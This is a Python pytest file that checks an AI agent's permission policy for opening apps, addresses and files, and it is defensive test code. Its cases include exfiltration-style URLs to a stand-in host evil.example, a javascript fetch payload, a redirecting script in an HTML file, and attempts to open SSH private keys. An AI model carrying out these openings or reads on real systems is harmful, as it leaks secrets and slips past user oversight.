"""What `open_app` opens is judged as what it is: an address as the network, a document as what its program does."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.agent.calls import keep_order, reach_of
from app.agent.policy import Decision, Mode, Policy, Provenance
from app.agent.policy.policy import PolicyDeps
from app.assembly import registry
from app.base import paths
from app.protocol.call import Block, ToolCall
from app.protocol.spec import Effect
from tests.support.controls import altered, described

REGISTRY = registry()
OPEN = REGISTRY.find("open_app")
FETCH = REGISTRY.find("web_fetch")
TAINTED = Provenance(("screen",))

ADDRESSES = [
    "http://127.0.0.1:8123/?d=SECRET",
    "http://192.168.0.1/",
    "http://[::1]/",
    "http://0x7f.1/",
    "http://evil.example/?d=SECRET",
    "https://user:pass@evil.example/",
]


@pytest.mark.parametrize("mode", ["ask", "auto", "plan"])
@pytest.mark.parametrize("provenance", [Provenance(), TAINTED, Provenance(("web",), said="look at evil.example")])
@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_is_judged_like_a_fetch_of_it(
    tmp_path: Path, mode: str, provenance: Provenance, address: str
) -> None:
    assert OPEN
    assert FETCH
    policy = Policy(tmp_path, Mode(mode), persons=tmp_path / "none.toml")
    opened = policy.decide(ToolCall("c1", "open_app", {"name": address}), OPEN, (), provenance)
    fetched = policy.decide(ToolCall("c1", "web_fetch", {"url": address}), FETCH, (), provenance)
    assert opened.decision is fetched.decision
    if opened.decision is not Decision.ALLOW:
        assert opened.rule == fetched.rule


@pytest.mark.parametrize("mode", ["ask", "auto"])
@pytest.mark.parametrize(
    ("address", "decision"),
    [
        ("file:///etc/hostname", "ask"),
        ("/etc/hostname", "ask"),
        ("file:///root/.ssh/id_rsa", "deny"),
        ("javascript:fetch('//evil.example')", "deny"),
        ("view-source:file:///etc/hostname", "deny"),
        ("what is a file: url", "allow"),
        ("about:blank", "allow"),
    ],
)
def test_an_address_bar_opens_what_open_app_would(tmp_path: Path, mode: str, address: str, decision: str) -> None:
    policy = Policy(tmp_path, Mode(mode), persons=tmp_path / "none.toml")
    bar = described("Tab", "chromium", "entry", "Address and search bar", states=frozenset({"editable"}))
    entering = [
        (ToolCall("c1", "computer_key", {"keys": "Return"}), altered(bar, address=address)),
        (ToolCall("c1", "computer_type", {"text": f"{address}\n"}), bar),
    ]
    specs = [spec for call, _ in entering if (spec := REGISTRY.find(call.name))]
    decided = [
        policy.decide(call, spec, (there,), Provenance()) for (call, there), spec in zip(entering, specs, strict=True)
    ]
    assert [one.decision.value for one in decided] == [decision] * 2
    if address.lower().startswith("file:"):
        assert OPEN
        opened = policy.decide(ToolCall("c1", "open_app", {"name": address}), OPEN, (), Provenance())
        assert opened.decision.value == decision


@pytest.mark.parametrize("mode", ["ask", "auto"])
@pytest.mark.parametrize("provenance", [Provenance(), TAINTED])
@pytest.mark.parametrize(
    ("name", "content", "decision"),
    [
        ("a.txt", "hello", "allow"),
        ("folder", None, "allow"),
        ("a.html", "<script>location='http://evil.example'</script>", "ask"),
        ("a.svg", "<svg/>", "ask"),
        ("a.desktop", "[Desktop Entry]", "ask"),
        ("evil", "\x7fELF", "ask"),
        ("a.sh", "ls", "ask"),
        ("a.unheard", "x", "ask"),
        ("missing.txt", None, "ask"),
    ],
)
def test_a_document_that_can_run_or_load_asks_in_every_spelling(
    tmp_path: Path, mode: str, provenance: Provenance, name: str, content: str | None, decision: str
) -> None:
    path = tmp_path / name
    if content is not None:
        path.write_text(content)
    elif name == "folder":
        path.mkdir()
    assert OPEN
    policy = Policy(tmp_path, Mode(mode), persons=tmp_path / "none.toml")
    for spelled in (str(path), f" {path} ", path.as_uri(), f"FILE:{path}"):
        verdict = policy.decide(ToolCall("c1", "open_app", {"name": spelled}), OPEN, (), provenance)
        assert (verdict.decision.value, verdict.may_remember) == (decision, False), (spelled, verdict)


def test_a_file_of_secrets_is_not_opened(tmp_path: Path) -> None:
    key = Path.home() / ".ssh" / "id_rsa"
    assert OPEN
    verdict = Policy(tmp_path).decide(ToolCall("c1", "open_app", {"name": str(key)}), OPEN, (), Provenance())
    assert verdict.rule == "secrets"


@pytest.mark.parametrize("name", ["calculator", "gmrun", "file manager", "terminal"])
def test_a_program_is_opened_unasked(tmp_path: Path, name: str) -> None:
    assert OPEN
    call = ToolCall("c1", "open_app", {"name": name})
    assert OPEN.effects_of(call) == {Effect.DESKTOP}
    assert Policy(tmp_path).decide(call, OPEN, (), TAINTED).decision.value == "allow"


@pytest.mark.parametrize("mode", ["ask", "auto"])
@pytest.mark.parametrize(
    ("files", "decision"),
    [
        (("/usr/bin/python3", "/usr/share/app/main.py"), "allow"),
        (("{workspace}/.venv/bin/tool",), "ask"),
        (("/usr/bin/python3", "{workspace}/main.py"), "ask"),
        (("{workspace}/link",), "ask"),
        (("{outside}/link",), "ask"),
        (("/tmp/built",), "ask"),
        (("{made}/built",), "ask"),
    ],
)
def test_a_program_that_was_built_in_the_workspace_is_not_started_unasked(
    tmp_path: Path, mode: str, files: tuple[str, ...], decision: str
) -> None:
    workspace, outside = tmp_path / "space", tmp_path / "other"
    workspace.mkdir()
    outside.mkdir()
    (workspace / "link").symlink_to("/usr/bin/true")
    (outside / "link").symlink_to(workspace / "built")
    made = paths.made_dir()
    given = tuple(one.format(workspace=workspace, outside=outside, made=made) for one in files)
    assert OPEN
    policy = Policy(workspace, Mode(mode), persons=tmp_path / "none.toml")
    verdict = policy.decide(
        ToolCall("c1", "open_app", {"name": "tool"}), OPEN, (described(app="tool", files=given),), Provenance()
    )
    assert (verdict.decision.value, verdict.may_remember) == (decision, False), verdict


def test_what_is_opened_waits_for_what_is_written() -> None:
    write = reach_of(Block("c1", "write_file", {"path": "/w/a.html"}), REGISTRY.find("write_file"))
    opened = reach_of(Block("c2", "open_app", {"name": "/w/a.html"}), OPEN)
    assert (keep_order(write, opened), keep_order(opened, write)) == (True, True)


@pytest.mark.parametrize(
    ("url", "fetched", "opened"),
    [
        ("http://127.0.0.1:8123/", "allow", "ask"),
        ("http://localhost:8123/a?b=c", "allow", "ask"),
        ("http://127.0.0.1:8124/", "deny", "deny"),
        ("http://127.0.0.1/", "deny", "deny"),
        ("http://127.0.0.1:8123@evil.example/", "deny", "deny"),
        ("http://192.168.0.1:8123/", "deny", "deny"),
    ],
)
def test_what_a_command_of_the_conversation_serves_is_read(tmp_path: Path, url: str, fetched: str, opened: str) -> None:
    assert OPEN
    assert FETCH
    around = PolicyDeps(own_ports=lambda: {8123})
    policy = Policy(tmp_path, surroundings=around, persons=tmp_path / "none.toml")
    assert policy.decide(ToolCall("c1", "web_fetch", {"url": url}), FETCH, (), Provenance()).decision.value == fetched
    assert policy.decide(ToolCall("c1", "open_app", {"name": url}), OPEN, (), Provenance()).decision.value == opened


@pytest.mark.parametrize(
    ("item", "default", "count", "decision"),
    [
        ("Delete all photos", "OK", 2, Decision.ASK),
        ("Delete all photos", "OK", 1, Decision.ALLOW),
        ("Photos", "Delete", 2, Decision.ASK),
        ("Photos", "OK", 2, Decision.ALLOW),
    ],
)
def test_a_double_click_on_an_item_of_a_dialog_answers_it(
    tmp_path: Path, item: str, default: str, count: int, decision: Decision
) -> None:
    click = REGISTRY.find("computer_click")
    assert click
    policy = Policy(tmp_path, Mode("auto"), persons=tmp_path / "none.toml")
    row = altered(described("Choose", "zenity", "table cell", item, is_dialog=True), default=default)
    call = ToolCall("c1", "computer_click", {"target": item, "count": count})
    assert policy.decide(call, click, (row,), Provenance()).decision is decision
